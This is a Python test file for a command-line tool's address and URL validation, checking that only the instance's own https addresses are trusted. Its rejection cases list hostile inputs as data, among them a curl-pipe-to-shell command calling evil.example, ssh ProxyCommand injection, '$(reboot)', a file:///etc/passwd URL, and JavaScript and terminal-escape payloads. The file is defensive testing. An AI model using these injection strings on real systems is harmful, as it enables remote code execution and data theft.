"""The one trust rule for CML URLs, and what counts as an address (`cmltui.domain.addresses`)."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cmltui.domain.addresses import (
    URL_NOT_TRUSTED,
    UrlTrust,
    address_problem,
    url_refusal,
    url_shape_refusal,
    valid_address,
)

OWN = ("203.0.113.9", "10.0.1.5", "ec2-203-0-113-9.compute-1.amazonaws.com")


@pytest.mark.parametrize(
    "address",
    [
        "203.0.113.9",
        "10.0.1.5",
        "2001:db8::1",
        "::1",
        "ec2-203-0-113-9.compute-1.amazonaws.com",
        "ip-10-0-1-5.ec2.internal.",
        "cml01",
        "a" * 63 + ".example",
    ],
)
def test_ip_addresses_and_rfc1123_names_are_addresses(address):
    assert address_problem(address) is None
    assert valid_address(address) == address


@pytest.mark.parametrize(
    "text",
    [
        "203.0.113.9; curl -s http://evil.example/x | sh #",
        "203.0.113.9 -oProxyCommand=sh",
        "-oProxyCommand=sh",
        "$(reboot)",
        "`id`",
        "host name",
        "fe80::1%eth0;id",
        "fe80::1%eth0",
        "203.0.113.999",
        "1.2.3",
        "-leading.example",
        "trailing-.example",
        "a" * 64 + ".example",
        "x." * 130 + "example",
        "ex\u0430mple.com",  # a Cyrillic а: a lookalike, not an RFC 1123 name
        "evil\x1b]0;t\x07.example",
        "bidi\u202e.example",
        "lone\ud800.example",
        "",
        "203.0.113.9\n",
    ],
)
def test_anything_else_is_not_an_address(text):
    assert address_problem(text) is not None
    assert valid_address(text) is None


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("javascript:alert(document.cookie)", "not an http(s) URL"),
        ("file:///etc/passwd", "not an http(s) URL"),
        ("data:text/html,<script>alert(1)</script>", "not an http(s) URL"),
        ("--remote-debugging-port=9222", "not an http(s) URL"),
        ("-https://203.0.113.9", "not an http(s) URL"),
        ("https://203.0.113.9@evil.example/", "not an http(s) URL"),
        ("https://user:pw@203.0.113.9/", "not an http(s) URL"),
        ("https://evil.example/", "host evil.example is not this instance's address"),
        ("https://203.0.113.9.evil.example/", "is not this instance's address"),
        ("https://203.0.113.90/", "is not this instance's address"),
        ("http://203.0.113.9/", "http:// refused for 203.0.113.9"),
        ("https://203.0.113.9:99999/", "malformed URL"),
        ("https://203.0.113.9\t.evil.example/", "not a plain http(s) URL"),
        ("https://203.0.113.9 /", "not a plain http(s) URL"),
        ("https://ex\u0430mple.com/", "not a plain http(s) URL"),
        ("https://\x1b]0;x\x07.example/", "not a plain http(s) URL"),
        ("https://a_b.example/", "is not an IP address or host name"),
        ("https://" + "a" * 3000, "not a plain http(s) URL"),
    ],
)
def test_untrusted_urls_are_refused_with_why(url, why):
    refusal = url_refusal(url, OWN, UrlTrust())
    assert refusal is not None and why in refusal, refusal
    assert refusal.startswith(URL_NOT_TRUSTED) or refusal.startswith("http:// refused")
    assert refusal.isprintable() and "\x1b" not in refusal


@pytest.mark.parametrize(
    "url",
    [
        "https://203.0.113.9",
        "https://10.0.1.5:8443/lab/",
        "https://EC2-203-0-113-9.compute-1.amazonaws.com./",
    ],
)
def test_the_instances_own_https_addresses_are_trusted(url):
    assert url_refusal(url, OWN, UrlTrust()) is None


def test_the_operator_vouches_by_pattern_and_opts_into_http_per_host():
    trust = UrlTrust.of(["*.lab.example"], ["10.0.1.5"])
    assert url_refusal("https://cml-7.lab.example/", OWN, trust) is None
    assert url_refusal("https://cml-7.lab.example.evil.com/", OWN, trust) is not None
    assert url_refusal("http://10.0.1.5/", OWN, trust) is None
    assert url_refusal("http://203.0.113.9/", OWN, trust) is not None
    # Built from an own address (no tag, no outside URL): nothing to vouch for, https still.
    assert url_refusal("https://any.example/", None, UrlTrust()) is None
    assert url_shape_refusal("http://any.example/") is None
    assert url_shape_refusal("--remote-debugging-port=9222") is not None


@given(st.text(max_size=80))
def test_whatever_is_accepted_is_an_http_url_to_an_own_address(text):
    for url in (text, "https://" + text, "https://203.0.113.9" + text):
        if url_refusal(url, OWN, UrlTrust()) is None:
            parts = urlsplit(url)
            assert parts.scheme == "https" and not url.startswith("-")
            assert (parts.hostname or "").rstrip(".") in {a.lower() for a in OWN}
            assert url.isascii() and url.isprintable() and " " not in url
            assert parts.username is None and parts.password is None


@given(st.text(max_size=60))
def test_whatever_is_an_address_has_nothing_a_shell_would_read(text):
    if address_problem(text) is None:
        assert text.isascii() and text.isprintable()
        assert not set(text) & set(" ;|&$`'\"\\<>()%{}*?!#~\t\n")
        assert not text.startswith("-")
